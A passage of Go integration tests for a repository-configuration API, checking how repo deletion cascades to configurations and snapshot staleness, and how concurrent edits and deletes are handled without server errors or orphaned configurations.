	env.Do(t, http.MethodPatch, "/configurations/"+both.ID+"/snapshot", builderToken, map[string]any{"status": "building"}).Expect(t, http.StatusOK, nil)
	var built repos.Configuration
	env.Do(t, http.MethodPatch, "/configurations/"+both.ID+"/snapshot", builderToken, map[string]any{"status": "default", "snapshot_id": "im-1"}).Expect(t, http.StatusOK, &built)
	if built.SnapshotStale {
		t.Fatal("fresh snapshot is stale")
	}
	onlyB0 := rowJSON(t, env, "configurations", onlyB.ID)

	var res repos.DeleteRepoResult
	env.Do(t, http.MethodDelete, "/repos/"+a.ID, o.Admin.Token, nil).Expect(t, http.StatusOK, &res)
	if len(res.DeletedConfigurations) != 1 || res.DeletedConfigurations[0] != only.ID ||
		len(res.UpdatedConfigurations) != 1 || res.UpdatedConfigurations[0] != both.ID {
		t.Fatalf("result: %+v", res)
	}
	var got repos.Configuration
	env.Do(t, http.MethodGet, "/configurations/"+both.ID, o.Member.Token, nil).Expect(t, http.StatusOK, &got)
	if len(got.Repos) != 1 || got.Repos[0].RepoID != b.ID || !got.SnapshotStale || got.SnapshotID == nil || *got.SnapshotID != "im-1" {
		t.Fatalf("survivor: %+v", got)
	}
	env.Do(t, http.MethodGet, "/configurations/"+only.ID, o.Member.Token, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
	if rowJSON(t, env, "configurations", onlyB.ID) != onlyB0 {
		t.Fatal("an unrelated configuration changed")
	}
}

// Concurrent edits of configurations and deletes of their repos lock rows in
// different orders; Postgres may abort one as a deadlock, which the store
// retries. Nobody sees a 500 and no configuration is left without repos.
func TestConcurrentRepoDeleteAndReplace(t *testing.T) {
	env := newEnv(t)
	o := env.NewOrg(t)
	for round := range 5 {
		x := createRepo(t, env, o.Admin.Token, fmt.Sprintf("acme/x%d", round), nil)
		var cfgs []string
		for i := range 6 {
			y := createRepo(t, env, o.Admin.Token, fmt.Sprintf("acme/y%d-%d", round, i), nil)
			cfgs = append(cfgs, createConfig(t, env, o.Admin.Token, map[string]any{"name": "c", "repos": refs(x.ID, y.ID)}).ID)
		}
		// Half the configurations are cut down to [x] while x is deleted
		// (they must then be deleted or refused), the others edited.
		var wg sync.WaitGroup
		statuses := make(chan int, len(cfgs)+1)
		for i, id := range cfgs {
			wg.Go(func() {
				var body map[string]any
				if i%2 == 0 {
					body = map[string]any{"repos": refs(x.ID)}
				} else {
					body = map[string]any{"service_commands": []map[string]any{{"name": "a", "command": "b"}}}
				}
				path := "/configurations/" + id + "/repos"
				if i%2 == 1 {
					path = "/configurations/" + id + "/service-commands"
				}
				statuses <- env.Do(t, http.MethodPut, path, o.Admin.Token, body).Status
			})
		}
		wg.Go(func() { statuses <- env.Do(t, http.MethodDelete, "/repos/"+x.ID, o.Admin.Token, nil).Status })
		wg.Wait()
		close(statuses)
		for s := range statuses {
			if s != http.StatusOK && s != http.StatusNotFound && s != http.StatusUnprocessableEntity {
				t.Fatalf("status %d; logs:\n%s", s, env.Logs.String())
			}
		}
		if n := env.CountRows(t, "configurations c", "org_id = $1 AND NOT EXISTS (SELECT 1 FROM configuration_repos cr WHERE cr.configuration_id = c.id)", o.ID); n != 0 {
			t.Fatalf("%d configurations without repos", n)
		}
		if n := env.CountRows(t, "configuration_repos", "repo_id = $1", x.ID); n != 0 {
			t.Fatal("links to a deleted repo remain")
		}
	}
	if strings.Contains(env.Logs.String(), `"api error"`) {
		t.Fatalf("server errors logged:\n%s", env.Logs.String())
	}
}
